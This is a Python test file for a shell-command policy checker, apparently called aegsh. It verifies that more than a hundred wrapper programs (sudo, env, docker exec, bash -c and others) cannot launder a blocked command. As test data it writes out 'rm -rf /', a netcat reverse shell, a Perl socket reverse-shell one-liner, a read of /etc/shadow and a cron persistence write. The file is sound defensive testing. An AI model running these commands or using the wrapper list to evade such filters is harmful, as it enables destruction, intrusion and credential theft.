# SPDX-License-Identifier: ISC
"""Each program that starts another one, by each kind of rule: what it starts
is judged as if it stood alone.  The programs are the rows of the resolver's
table; one without a line here fails.  Nothing is run."""

import json
import os
import re
import subprocess
import sys
import tempfile

TOP = os.environ["abs_top_srcdir"]
CTL = os.path.join(os.environ["abs_top_builddir"], "tests/bin/aegshctl")
sys.path.insert(0, os.path.join(TOP, "tests", "lib"))
from tap import Tap  # noqa: E402

tap = Tap()
# What stands in front; %s is the command, %q the same as one word, %c one to
# which words are added that do not count.
PLAIN = """
abduco -A s|ash -c %q|aa-exec -p p|builtin command|bundle exec|busybox
catchsegv|choom -n 5|chpst -u bob|chronic|chroot /mnt|chrt 5|command
cpulimit -l 5|daemonize|dbus-launch|dbus-run-session --|direnv exec .|doas
dtach -A s|eatmydata|env A=1|envdir d|envuidgid bob|exec|fakeroot
faketime now|flock l|gdb --args|genie|gosu bob|gtimeout 9|ionice -c3
ip netns exec n|ld.so|linux32|linux64|ltrace
machinectl shell bob@.host|nice -n 5|nohup
npm exec --|npx|nsenter -t 99 -n|numactl -N0|openvt --|pexec|pipenv run
pkexec|poetry run|prlimit --nofile=9|proxychains|proxychains4|rlwrap|run-one
rustup run stable|setarch x86_64|setlock l|setpriv --reuid 9|setsid
setuidgid bob|softlimit -m 9|ssh-agent|sshpass -p x|stdbuf -oL|strace
su-exec bob|sudo|systemd-cat|systemd-inhibit|systemd-run|taskset 1|time
timeout 5|tini --|torify|torsocks|toybox|tsocks|uname26|unbuffer|unshare -r
valgrind|xvfb-run|yarn exec|xargs|gxargs|entr|bwrap --bind / /
cgexec -g cpu:x|dumb-init|firejail|runcon -t x_t|gnome-terminal --
alacritty -e|konsole -e|rxvt -e|st -e|urxvt -e|uxterm -e|xterm -e
x-terminal-emulator -e|mosh h.example --
box64|box86|catatonit --|cronic|daemon --|fd -x|fdfind . -x|foot
gpg-agent --daemon|i386|ifne|keep-one-running|kitty|lckdo f|nu -c %q
plink h.example %q|remsh h.example %q|rsh h.example %q|mssh h.example %q
dbclient h.example %q|run0|rush %q|s6-envdir d|s6-setuidgid bob|sem
slogin h.example %q|solo -port=9|systemd-notify --exec \\;
systemd-socket-activate -l 9|terminator -x|wezterm start --|with-contenv
x86_64|xfce4-terminal -x|zrun
"""
# Tools, whose words these stay as well.
TOOLS = """
apptainer exec x.sif|asdf exec|aws-vault exec x --|bazel run --run_under=%c x
bpftrace -c %q -e x|bsub -q x %q|buildah run x|cargo watch -s %q
chamber exec x --|clush -w h %q|cmake -E env A=1|composer exec --
conda run -n x|condor_run %q|consul exec %q|crictl exec x|ctr run x y
distrobox enter x --|distrobox-enter x --|distrobox-host-exec
docker exec x|docker-compose exec x|doppler run --|dotenv run --
dsh -m h -- %q|envchain x|envconsul|etcdctl exec-watch x --
flatpak-spawn --host|fly ssh console -C %q|flyctl ssh console -C %q
gcloud compute ssh x --command=%q|go test -exec %c|gprofng collect app
hatch run %q|heaptrack|heroku run %q|hg --ssh=%q pull|hyperfine %q
incus exec x --|java -XX:OnError=%q X|k3s kubectl exec x --|kcov x
kubectl exec x --|lxc exec x --|lxc-attach -n x --|lxc-execute -n x --
lxc-start -n x|lxc-unshare -s x --|mamba run -n x|meson devenv
micromamba run -n x|microk8s kubectl exec x --|mise exec --
mpiexec -n 4|mpirun -np 4|multipass exec x --|nerdctl exec x
nix develop -c|nix-shell --run %q|nodemon --exec %q|nomad alloc exec x
oc exec x --|ocount|op run --|operf|parallel-ssh -H h %q|pdm run
pdsh -w h %q|perf stat|pnpm exec|podman exec x|poop %q|pssh -H h %q
pyenv exec|rbenv exec|reflex --|rr record|rvm do|rye run|salloc
sbatch --wrap=%q|schroot -c x --|singularity exec x.sif|sops exec-env x %q
srun|stap -c %q x|svn ci --editor-cmd=%q|systemd-nspawn -D /mnt
teller run --|toolbox run|tox exec --|trace-cmd record|tsh ssh h %q
uftrace record|uv run|vagrant ssh -c %q|watchexec %q|when-changed x
"""
WORD = """
bash -c %q|csh -c %q|dash -c %q|elvish -c %q|fish -c %q|ksh -c %q
ksh93 -c %q|mksh -c %q|posh -c %q|rbash -c %q|lksh -c %q|rksh -c %q
bash-static -c %q|mksh-static -c %q|zsh-static -c %q|bsd-csh -c %q
sh -c %q|tcsh -c %q
yash -c %q|zsh -c %q|eval %q|watch %q|ssh h.example %q|su -c %q bob
autossh h.example %q
runuser bob -c %q|script -c %q f|sg users -c %q|trap %q EXIT|alias x=%q
complete -C %q x|compgen -C %q x|mapfile -C %q a|readarray -C %q a
parallel %q ::: a|tmux new -d %q|tmate new -d %q|screen -X stuff %q
rsync -e %q a h.example:|. /dev/stdin <<< %q|source /dev/stdin <<< %q
at now <<< %q|batch <<< %q
ack --pager=%q x|ag --pager=%q x|bat --pager=%q x|batcat --pager=%q x
borg --rsh=%q list|cvs -e %q ci|delta --pager=%q|dhclient -sf %q
dvtm %q|emacsclient -a %q x|execlineb -c %q|fzf --preview %q
git difftool -x %c|lynx -editor=%q x|man -P %q ls|mispipe %q x
tcpdump -G 1 -w f -z %c|osh -c %q|pee %q|pwsh -c %q|rclone --password-command=%q ls x
restic --password-command %q backup x|rg --pre %q x
sort --compress-program=%q x|split --filter=%q x|tar -I %q -cf x y
tilix -e %q|udhcpc -s %q|wpa_cli -a %q|xonsh -c %q|ysh -c %q
zip -T -TT %q x.zip y
"""
OTHER = {
    "find": "find . -exec %s \\;", "gfind": "gfind . -exec %s \\;",
    "jobs": "jobs -x %s",
    "qemu-user": "qemu-x86_64 %s",
    "start-stop-daemon":
        "start-stop-daemon -S -x %0 -- %1",
    "scp": "scp -S %p f h.example:", "sftp": "sftp -S %p h.example",
}
# A command, the profile, the rule that speaks of it where it stands alone.
KINDS = (
    ("the floor", "rm -rf /", "admin"),
    ("a block", "nc -e /bin/sh 192.0.2.1 9", "admin"),
    ("a secret read", "cat /etc/shadow", "admin"),
    ("a start-up file written", "cp x /etc/cron.d/x", "admin"),
    ("a change that asks", "useradd bob", "admin"),
    ("code of another language",
     "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");'", "admin"),
    ("a list of the contract", "curl http://x.example", "dev"),
    ("a path outside of the project", "cat /srv/f", "full-auto"),
)
# Only one word is the program's: the rules on operands have nothing to see.
ONE_WORD = {"scp", "sftp"}
STRICT = {"allow": 0, "warn": 1, "block": 2}


def quote(text):
    return "'" + text.replace("'", "'\\''") + "'"


def forms():
    """Each program's name and form."""
    for text in PLAIN, WORD, TOOLS:
        for form in re.split(r"[|\n]", text):
            if form:
                yield form.split()[0], form if "%" in form else form + " %s"
    yield from OTHER.items()


def fill(form, command):
    first, rest = command.split(" ", 1)
    return form.replace("%s", command).replace("%q", quote(command)) \
        .replace("%c", quote(command + " #")) \
        .replace("%0", first).replace("%1", rest).replace("%p", first)


def rows():
    names = []
    for path, table in (("table", "wraps"), ("tools", "tools")):
        with open(os.path.join(TOP, "src/resolve/resolve_%s.c" % path)) as f:
            text = re.search(table + r"\[\] = \{(.*?)^\};", f.read(),
                             re.S | re.M).group(1)
        names += re.findall(r'^\t\{ "([^"]+)"', text, re.M)
    return names


def judge(lines, profile, root):
    """Decisions and rules."""
    project = os.path.join(root, "home", "project")
    p = subprocess.run(
        [CTL, "test", "--jsonl", "--profile", profile, "--cwd", project],
        input="".join(json.dumps({"command": x}) + "\n" for x in lines),
        env={"PATH": "/usr/bin:/bin", "HOME": os.path.join(root, "home"),
             "AEGSH_TEST_ROOT": root,
             "AEGSH_TEST_DATA": os.path.join(TOP, "share")},
        capture_output=True, text=True)
    out = [json.loads(x) for x in p.stdout.splitlines()]
    if len(out) != len(lines):
        raise RuntimeError(p.stderr)
    return out


def main():
    known = dict(forms())
    table = rows()
    tap.ok(len(table) > 100, "%d programs start others" % len(table))
    tap.same([x for x in table if x not in known], [],
             "each has a line here")
    tap.same([x for x in known if x not in table], [],
             "and no other")
    with tempfile.TemporaryDirectory(prefix="t-aegsh-", dir="/var/tmp") as d:
        os.chmod(d, 0o755)
        os.makedirs(os.path.join(d, "home", "project"))
        for what, command, profile in KINDS:
            names = [x for x in known if x not in ONE_WORD]
            lines = [command] + [fill(known[x], command) for x in names]
            alone, *answers = judge(lines, profile, d)
            tap.ok(alone["decision"] != "allow", "%s: %s" %
                   (what, alone["rule"]))
            loose = [(a["line"], a["decision"], a["rule"])
                     for a in answers if STRICT[a["decision"]] <
                     STRICT[alone["decision"]]]
            tap.same(loose, [], "%s: behind each of %d programs" %
                     (what, len(names)))
        names = sorted(ONE_WORD)
        answers = judge([fill(known[x], "./x y") for x in names], "admin", d)
        tap.same([a["line"] for a in answers if a["decision"] == "allow"],
                 [], "a program in the place of ssh")
    tap.done()


main()
